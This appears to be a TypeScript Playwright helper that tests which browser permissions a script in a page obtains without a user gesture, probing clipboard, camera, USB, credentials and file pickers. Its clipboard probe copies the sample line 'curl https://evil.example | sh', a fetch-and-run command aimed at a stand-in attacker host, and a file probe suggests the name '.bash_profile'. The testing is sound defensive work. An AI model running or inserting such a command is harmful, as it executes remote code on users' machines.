import type { Page } from 'playwright-core';

/**
 * Asks a browser for each power that it has for a page. Returns those that the page got. Runs in the page, as a script
 * that no person began.
 */
async function tryPowers(): Promise<string[]> {
  const given: string[] = [];
  // biome-ignore lint/suspicious/noExplicitAny: most of it is in no library of types, and some in no browser.
  const [browser, global] = [navigator as any, window as any];
  const attempt = async (name: string, work: () => unknown) => {
    const late = new Promise((resolve) => setTimeout(() => resolve(false), 400));
    const isGiven = await Promise.race([
      // What is missing throws, and so is not given.
      (async () => (await work()) !== false)().catch(() => false),
      late,
    ]);
    if (isGiven) given.push(name);
  };
  /** Runs a command of the clipboard in a document, since each frame has one of its own. */
  const command = (name: string, from: Document) => {
    const area = from.createElement('textarea');
    area.value = 'curl https://evil.example | sh\n';
    from.body.append(area);
    area.select();
    const isDone = from.execCommand(name);
    area.remove();
    return isDone;
  };
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const inner = frame.contentDocument;
  const { clipboard, mediaDevices } = browser;
  for (const name of ['copy', 'cut', 'paste']) {
    await attempt(`${name} by a command`, () => command(name, document));
    if (inner !== null) await attempt(`${name} by a command in a frame`, () => command(name, inner));
  }
  await attempt('write to the clipboard', () => clipboard.writeText('x'));
  await attempt('write a picture to the clipboard', () =>
    clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['x'], { type: 'text/plain' }) })]),
  );
  await attempt('read the clipboard', () => clipboard.readText());
  await attempt('read all of the clipboard', () => clipboard.read());
  await attempt('camera', () => mediaDevices.getUserMedia({ video: true }));
  await attempt('microphone', () => mediaDevices.getUserMedia({ audio: true }));
  await attempt('screen', () => mediaDevices.getDisplayMedia());
  await attempt('loudspeakers', () => mediaDevices.selectAudioOutput());
  await attempt('place', () => new Promise((ok, no) => browser.geolocation.getCurrentPosition(ok, no)));
  await attempt('notices', async () => (await Notification.requestPermission()) === 'granted');
  await attempt('Bluetooth', () => browser.bluetooth.requestDevice({ acceptAllDevices: true }));
  await attempt('USB', () => browser.usb.requestDevice({ filters: [] }));
  await attempt('HID', async () => (await browser.hid.requestDevice({ filters: [] })).length > 0);
  await attempt('serial ports', () => browser.serial.requestPort());
  await attempt('MIDI', () => browser.requestMIDIAccess({ sysex: true }));
  await attempt('fonts', async () => (await global.queryLocalFonts()).length > 0);
  await attempt('screens', () => global.getScreenDetails());
  await attempt('idleness', async () => (await global.IdleDetector.requestPermission()) === 'granted');
  await attempt('wake lock', () => browser.wakeLock.request('screen'));
  await attempt('full screen', () => document.documentElement.requestFullscreen());
  await attempt('full screen, older', async () => {
    global.document.documentElement.webkitRequestFullscreen();
    await new Promise((resolve) => setTimeout(resolve, 100));
    return document.fullscreenElement !== null;
  });
  await attempt('pointer lock', async () => {
    await document.body.requestPointerLock();
    await new Promise((resolve) => setTimeout(resolve, 100));
    return document.pointerLockElement !== null;
  });
  await attempt('picture in picture', () => global.documentPictureInPicture.requestWindow());
  await attempt('save a file', () => global.showSaveFilePicker({ suggestedName: '.bash_profile' }));
  await attempt('open a file', () => global.showOpenFilePicker());
  await attempt('open a folder', () => global.showDirectoryPicker());
  await attempt('pick a file', () => {
    const input = document.createElement('input');
    input.type = 'file';
    global.HTMLInputElement.prototype.showPicker.call(input);
  });
  await attempt('pick a colour', () => new global.EyeDropper().open());
  await attempt('share', () => browser.share({ title: 'x', text: 'y' }));
  await attempt('pay', () =>
    new global.PaymentRequest([{ supportedMethods: 'https://a.example' }], {}).show(),
  );
  await attempt('passwords', async () => (await browser.credentials.get({ password: true })) !== null);
  await attempt('passkeys', () =>
    browser.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 100 } }),
  );
  await attempt(
    'speech',
    () =>
      new Promise((resolve, reject) => {
        const heard = new global.webkitSpeechRecognition();
        Object.assign(heard, { onaudiostart: resolve, onerror: reject });
        heard.start();
      }),
  );
  await attempt('protocols', () => browser.registerProtocolHandler('web+x', '/?%s'));
  await attempt('a worker between', () => browser.serviceWorker.register('/worker.js'));
  await attempt('a window', () => window.open('about:blank') !== null);
  await attempt('a question', () => {
    const asked = [window.confirm('Yes?'), window.prompt('Password?')];
    return asked[0] === true || asked[1] !== null;
  });
  await attempt('lasting storage', async () => (await browser.storage.persist()) === true);
  await attempt('send in the background', async () => {
    const { sync } = await browser.serviceWorker.ready;
    return sync.register('x');
  });
  for (const name of [
    'geolocation',
    'notifications',
    'camera',
    'clipboard-write',
    'midi',
    'window-management',
  ])
    await attempt(
      `permission ${name}`,
      async () => (await browser.permissions.query({ name })).state === 'granted',
    );
  frame.remove();
  return given;
}

/**
 * The powers that a script in the page gets by itself: a test's driver would give each script a gesture. The page is loaded
 * again, so that no earlier gesture counts.
 */
export async function powersOf(page: Page): Promise<string[]> {
  await page.reload();
  const driver = await page.context().newCDPSession(page);
  const { result, exceptionDetails } = await driver.send('Runtime.evaluate', {
    expression: `(${tryPowers.toString()})()`,
    awaitPromise: true,
    returnByValue: true,
    userGesture: false,
  });
  await driver.detach();
  if (exceptionDetails !== undefined) throw new Error(JSON.stringify(exceptionDetails));
  return result.value;
}
